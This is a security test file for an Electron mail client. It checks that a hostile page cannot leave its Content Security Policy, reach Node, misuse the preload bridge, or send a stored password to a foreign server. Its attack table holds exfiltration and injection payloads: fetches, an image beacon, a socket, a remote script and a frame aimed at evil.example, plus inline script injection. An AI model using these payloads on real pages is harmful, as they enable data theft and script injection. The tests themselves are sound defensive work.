import { expect, test } from './support/spec.ts';

/** Each tries to get out of the page, or somebody else's code into it. @returns what came of it, in a word */
const ATTACKS: Readonly<Record<string, string>> = {
  'asking a server': `fetch('https://evil.example/').then(() => 'out', () => 'kept')`,
  'asking this computer': `fetch('http://127.0.0.1:1/').then(() => 'out', () => 'kept')`,
  'a request of the old kind': `new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve('out');
    request.onerror = () => resolve('kept');
    request.open('GET', 'https://evil.example/');
    request.send();
  })`,
  'a picture that tells': `new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve('out');
    image.onerror = () => resolve('kept');
    image.src = 'https://evil.example/?stolen';
  })`,
  'a socket': `new Promise((resolve) => {
    try {
      const socket = new WebSocket('wss://evil.example/');
      socket.onopen = () => resolve('out');
      socket.onerror = () => resolve('kept');
    } catch {
      resolve('kept');
    }
  })`,
  'a script of another server': `new Promise((resolve) => {
    const script = document.createElement('script');
    script.onload = () => resolve('out');
    script.onerror = () => resolve('kept');
    script.src = 'https://evil.example/evil.js';
    document.head.append(script);
  })`,
  'a script in the page': `(() => {
    const script = document.createElement('script');
    script.textContent = 'window.owned = true';
    document.head.append(script);
    return window.owned ? 'out' : 'kept';
  })()`,
  'a script in an attribute': `(() => {
    const holder = document.createElement('div');
    holder.innerHTML = '<b onclick="window.owned = true"></b>';
    document.body.append(holder);
    holder.firstChild.click();
    return window.owned ? 'out' : 'kept';
  })()`,
  'a frame': `new Promise((resolve) => {
    const frame = document.createElement('iframe');
    document.addEventListener('securitypolicyviolation', () => resolve('kept'), { once: true });
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  })`,
  'another base for all addresses': `(() => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    return document.baseURI.startsWith('https://evil') ? 'out' : 'kept';
  })()`,
  'a worker': `new Promise((resolve) => {
    try {
      const worker = new Worker('data:text/javascript,postMessage(1)');
      worker.onmessage = () => resolve('out');
      worker.onerror = () => resolve('kept');
    } catch {
      resolve('kept');
    }
  })`,
};

for (const [what, attack] of Object.entries(ATTACKS)) {
  test(`a hostile page gets nowhere with ${what}`, async ({ app }) => {
    app.expectProblem(/Content Security Policy|Failed to (?:load|construct)|Refused to|violates/);
    const { page } = app;
    const before = page.url();
    expect(await page.evaluate(attack)).toBe('kept');
    expect(page.url()).toBe(before);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  });
}

test('the bridge has two functions, and neither takes a name it does not know', async ({ app }) => {
  const found = await app.page.evaluate(async () => {
    const bridge: object = window.mailgrove;
    const tried: string[] = [];
    for (const name of ['secrets:get', 'constructor', '__proto__', 'toString', 'fs', '', 'command']) {
      const invoke: (name: string, input: unknown) => Promise<unknown> = Reflect.get(bridge, 'invoke');
      tried.push(
        await invoke(name, {}).then(
          () => `${name} answered`,
          (error: unknown) => String(error),
        ),
      );
    }
    for (const name of ['constructor', '__proto__', 'secrets', 'app:info']) {
      const on: (name: string, listener: () => void) => unknown = Reflect.get(bridge, 'on');
      try {
        on(name, () => undefined);
        tried.push(`${name} is an event`);
      } catch (error) {
        tried.push(String(error));
      }
    }
    return { names: Object.keys(bridge).sort(), tried: [...new Set(tried)] };
  });
  expect(found.names).toEqual(['invoke', 'on']);
  expect(found.tried).toEqual(['TypeError: No such operation', 'TypeError: No such event']);
});

test('Node and Electron are not to be had in the page', async ({ app }) => {
  const names = ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer', '__dirname'];
  expect(await app.page.evaluate((all) => all.filter((name) => name in window), names)).toEqual([]);
});

test('main gives no password to whoever asks, however they ask', async ({ app, servers }) => {
  const axigen = await servers.axigen({ password: 'Tr0ub4dor-&-3-squirrels' });
  const connection = { vendor: 'axigen', server: axigen.url, user: axigen.user, signIn: 'password' } as const;
  const { id } = await app.addMailbox({ label: 'Work', connection, secret: axigen.password });
  const elsewhere = { ...connection, server: 'https://evil.example' };
  // A password kept is not sent to a server it was not typed for.
  await expect(app.invoke('accounts:edit', { account: id, label: 'Work', connection: elsewhere })).rejects.toThrow(
    /secret-needed/,
  );
  await expect(app.invoke('accounts:test', { account: id, connection: elsewhere })).rejects.toThrow(/secret-needed/);
});
